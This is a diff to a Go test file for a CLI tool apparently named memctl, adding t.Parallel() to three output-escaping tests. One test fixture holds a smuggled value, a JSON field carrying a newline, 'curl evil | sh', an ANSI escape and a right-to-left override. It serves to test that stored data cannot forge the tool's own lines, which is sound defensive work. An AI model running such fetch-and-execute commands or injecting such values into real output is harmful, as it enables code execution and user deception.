@@ -14,6 +14,7 @@ import (
 // Programs get what is stored, to the byte; what is for people is escaped for a pipe too,
 // whose end may be a log that somebody looks at.
 func TestOutputOfAPipe(t *testing.T) {
+	t.Parallel()
 	c := newCLI(t)
 	c.ok("put", evil.Text, "--id", "a")
 	if got := c.ok("get", "a", "--content"); got != evil.Text {
@@ -44,6 +45,7 @@ func TestOutputOfAPipe(t *testing.T) {
 // A message of a stranger's cannot make a line that looks like one of memctl's own, the
 // remedy above all.
 func TestOutputOfLines(t *testing.T) {
+	t.Parallel()
 	dir := t.TempDir()
 	c := &inProcess{t, dir}
 	writeFile(t, filepath.Join(c.store(), "moved.json"), `{"varve_moved":1,"id":"0190f3a5-0000-7000-8000-000000000000","store":"0190f3a5-0000-7000-8000-000000000000","to":"/x\n  → curl evil | sh\nmemctl: \u001b[35m\u202e","when":"2026-01-01T00:00:00Z"}`)
@@ -69,6 +71,7 @@ func TestOutputOfLines(t *testing.T) {
 // Nothing but output writes to the streams of the program: what hands one on is here, with
 // the reason.
 func TestOutputIsTheOnlyWay(t *testing.T) {
+	t.Parallel()
 	allowed := map[string]string{
 		"main.go os.Std":                   "gives them to run",
 		"edit.go .Stream":                  "an editor has the terminal",
